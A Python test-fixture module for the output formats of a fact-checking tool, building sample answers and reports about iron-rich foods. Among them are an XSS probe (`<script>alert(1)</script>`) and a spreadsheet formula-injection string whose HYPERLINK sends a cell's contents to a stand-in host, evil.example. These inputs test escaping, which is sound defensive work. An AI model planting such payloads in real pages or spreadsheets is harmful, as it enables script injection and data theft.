"""Hand-built answers and reports for the triage format tests (no engine, no models).

- three candidates of question "q-iron", ranked 1..3 (pass, review, reject), with nested
  and partly overlapping findings, a contradicted claim with evidence (the deciding passage
  and one that did not decide), and a finding without a span;
- a lone answer holding `<script>alert(1)</script>`, non-ASCII letters and an emoji before
  its findings (code points differ from UTF-16 units and bytes there), and an HTML question;
- an answer that could not be read (an error report, no text);
- an answer that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import io

import factlint.formats  # noqa: F401  (registers the writers)
from factlint.model import Answer, Evidence, Finding, Report
from factlint.registry import formats

QUESTION = "Which foods are rich in iron?"
EVIL_TEXT = "Crème brûlée 🍮 is <script>alert(1)</script> gonna help,\nnaïvely."
FORMULA_TEXT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"


def span(text: str, needle: str) -> tuple[int, int]:
    start = text.index(needle)
    return start, start + len(needle)


def finding(text: str, needle: str, rule: str, severity: str = "warning", message: str | None = None, **kw) -> Finding:
    start, end = span(text, needle)
    return Finding(rule=rule, category=rule.split("/")[0], severity=severity,
                   message=message or f"{rule}: '{needle}'", start=start, end=end, **kw)


def cases() -> list[tuple[Answer, Report]]:
    pairs = []

    a = Answer(id="iron-a", text="Lentils and beans are rich in iron.", question=QUESTION,
               source="batch.jsonl", meta={"line": 1, "question_id": "q-iron", "candidate": 1})
    pairs.append((a, Report(
        answer_id="iron-a", source="batch.jsonl", route="pass", risk=0.0,
        metrics={"route_reasons": [], "rank": 1, "candidates": 3, "rank_reasons": ["pass, risk 0.00, no findings"]},
    )))

    # Nested findings: "basically" lies inside the unsupported claim; "tbh" on its own.
    b_text = "Spinach is basically the best source of iron, tbh."
    b = Answer(id="iron-b", text=b_text, question=QUESTION, source="batch.jsonl",
               meta={"line": 1, "question_id": "q-iron", "candidate": 2})
    pairs.append((b, Report(
        answer_id="iron-b", source="batch.jsonl", route="review", risk=0.4375,
        findings=[
            finding(b_text, "Spinach is basically the best source of iron", "fact/unsupported",
                    message="No passage supports this claim.", confidence=0.55),
            finding(b_text, "basically", "style/filler", severity="info"),
            finding(b_text, "tbh", "style/slang"),
        ],
        metrics={"route_reasons": ["fact/unsupported needs review"], "rank": 2, "candidates": 3,
                 "rank_reasons": ["review, risk 0.44, 2 warnings, 1 info", "ranked below iron-a"]},
    )))

    # Partly overlapping findings ("30 mg" is in both) and a finding without a span at the end.
    c_text = "Spinach has 30 mg of iron per 100 g, so eat it daily."
    contradicted = finding(
        c_text, "Spinach has 30 mg", "fact/contradicted", severity="error",
        message="Spinach has about 2.7 mg of iron per 100 g.", confidence=0.9,
        # The deciding passage holds more than the deciding sentence; a retrieved passage that
        # did not decide comes with it (pages for people show the sentence, fold the rest).
        evidence=[Evidence(passage_id=7, source="https://example.org/iron", score=0.8123, stance="contradicts",
                           text="Raw spinach contains about 2.7 mg of iron per 100 g <em>only</em>. "
                                "Cooking shrinks the leaves, so a cooked cup holds more."),
                  Evidence(passage_id=8, source="https://example.org/beef", score=0.61, stance="neutral",
                           text="Beef is a source of heme iron.")],
    )
    units = finding(c_text, "30 mg of iron", "style/units")
    referral = Finding(rule="policy/missing-referral", category="policy", severity="error",
                       message="Advice on diet without a referral to a professional.",
                       start=len(c_text), end=len(c_text))
    c = Answer(id="iron-c", text=c_text, question=QUESTION, source="batch.jsonl",
               meta={"line": 1, "question_id": "q-iron", "candidate": 3})
    pairs.append((c, Report(
        answer_id="iron-c", source="batch.jsonl", route="reject", risk=0.96,
        findings=[contradicted, units, referral],
        metrics={"route_reasons": ["fact/contradicted rejects", "policy/missing-referral rejects"], "rank": 3,
                 "candidates": 3, "rank_reasons": ["reject, risk 0.96, 2 errors, 1 warning", "ranked below iron-b"]},
    )))

    evil = Answer(id="evil-1", text=EVIL_TEXT, question="Is <b>dessert</b> healthy?", source="batch.jsonl",
                  meta={"line": 2})
    pairs.append((evil, Report(
        answer_id="evil-1", source="batch.jsonl", route="review", risk=0.5,
        findings=[
            finding(EVIL_TEXT, "<script>alert(1)</script>", "policy/markup", message="Markup <script> in an answer."),
            finding(EVIL_TEXT, "gonna", "style/slang"),
            finding(EVIL_TEXT, "naïvely", "spelling/unknown-word", suggestions=["naively"]),
        ],
        metrics={"route_reasons": ["risk 0.50 reaches review_risk 0.5"]},
    )))

    bad = Answer(id="batch.jsonl:3", text="", source="batch.jsonl", meta={"line": 3, "input_error": "not JSON"})
    pairs.append((bad, Report.failed("batch.jsonl:3", "batch.jsonl", "batch.jsonl:3: not JSON: Expecting value at column 1")))

    formula = Answer(id="formula-1", text=FORMULA_TEXT, question="+SUM(1,2)", source="batch.jsonl", meta={"line": 4})
    pairs.append((formula, Report(answer_id="formula-1", source="batch.jsonl", route="pass", risk=0.0,
                                  metrics={"route_reasons": []})))
    return pairs


def answer_texts() -> dict[str, str]:
    return {a.id: a.text for a, _ in cases()}


#: Writer options every rendered case shares: a fixed version, so outputs compare exactly.
OPTIONS = {"tool_version": "0.0.0-test"}


def render(name: str, pairs=None, **options) -> str:
    """The cases (or `pairs` of answer and report) written by the format `name`."""
    out = io.StringIO()
    writer = formats.get(name)(out, {**OPTIONS, **options})
    for answer, report in pairs if pairs is not None else cases():
        writer.write(answer, report)
    writer.close()
    return out.getvalue()
